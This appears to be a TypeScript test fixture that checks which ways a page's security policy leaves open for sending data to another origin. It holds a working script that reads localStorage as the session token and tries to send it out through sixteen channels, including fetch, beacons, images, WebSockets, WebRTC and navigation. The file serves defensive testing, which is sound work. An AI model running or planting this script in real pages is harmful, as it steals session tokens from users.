// What a script that got into the page would try with the session token in hand: every way out to
// another origin (`to`) that a page has. A string of plain JavaScript, evaluated through each engine's
// client (as findScript.ts is); it answers, per way, whether the page refused it at once.
export const WAYS_OUT = [
  'fetch',
  'xhr',
  'beacon',
  'img',
  'form post',
  'websocket',
  'eventsource',
  'iframe',
  'prefetch',
  'script',
  'innerHTML',
  'webrtc',
  'window.open',
  'link click',
  'navigation.navigate',
  'location',
] as const;

export const waysOutScript = `async (to) => {
  const token = Object.values(localStorage).join('|').slice(0, 4000); // whatever holds the session
  const url = (way) => to + '/' + way + '?t=' + encodeURIComponent(token.slice(0, 200));
  const outcome = {};
  const attempt = async (way, run) => {
    try {
      await run();
      outcome[way] = 'no error';
    } catch (e) {
      outcome[way] = 'refused: ' + (e instanceof Error ? e.name : String(e));
    }
  };
  await attempt('fetch', () => fetch(url('fetch'), { method: 'POST', mode: 'no-cors', body: token }));
  await attempt('xhr', () => {
    const x = new XMLHttpRequest();
    x.open('POST', url('xhr'));
    x.send(token);
  });
  await attempt('beacon', () => navigator.sendBeacon(url('beacon'), token));
  await attempt('img', () => {
    new Image().src = url('img');
  });
  await attempt('form post', () => {
    const f = document.createElement('form');
    f.method = 'POST';
    f.action = url('form');
    document.body.append(f);
    f.submit();
  });
  await attempt('websocket', () => new WebSocket(url('ws').replace('http', 'ws')));
  await attempt('eventsource', () => new EventSource(url('sse')));
  await attempt('iframe', () => {
    const i = document.createElement('iframe');
    i.src = url('iframe');
    document.body.append(i);
  });
  await attempt('prefetch', () => {
    const l = document.createElement('link');
    l.rel = 'prefetch';
    l.href = url('prefetch');
    document.head.append(l);
  });
  await attempt('script', () => {
    const s = document.createElement('script');
    s.src = url('script');
    document.head.append(s);
  });
  await attempt('innerHTML', () => {
    document.createElement('div').innerHTML = '<img src="' + url('html') + '">';
  });
  await attempt('webrtc', async () => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(to).host }] });
    pc.createDataChannel(token.slice(0, 50));
    await pc.setLocalDescription(await pc.createOffer());
  });
  await attempt('window.open', () => {
    if (window.open(url('open')) === null) throw new Error('null window');
  });
  await attempt('link click', () => {
    const a = document.createElement('a');
    a.href = url('link');
    document.body.append(a);
    a.click();
  });
  await attempt('navigation.navigate', () => window.navigation && window.navigation.navigate(url('navigate')));
  await attempt('location', () => {
    location.href = url('location');
  });
  return outcome;
}`;
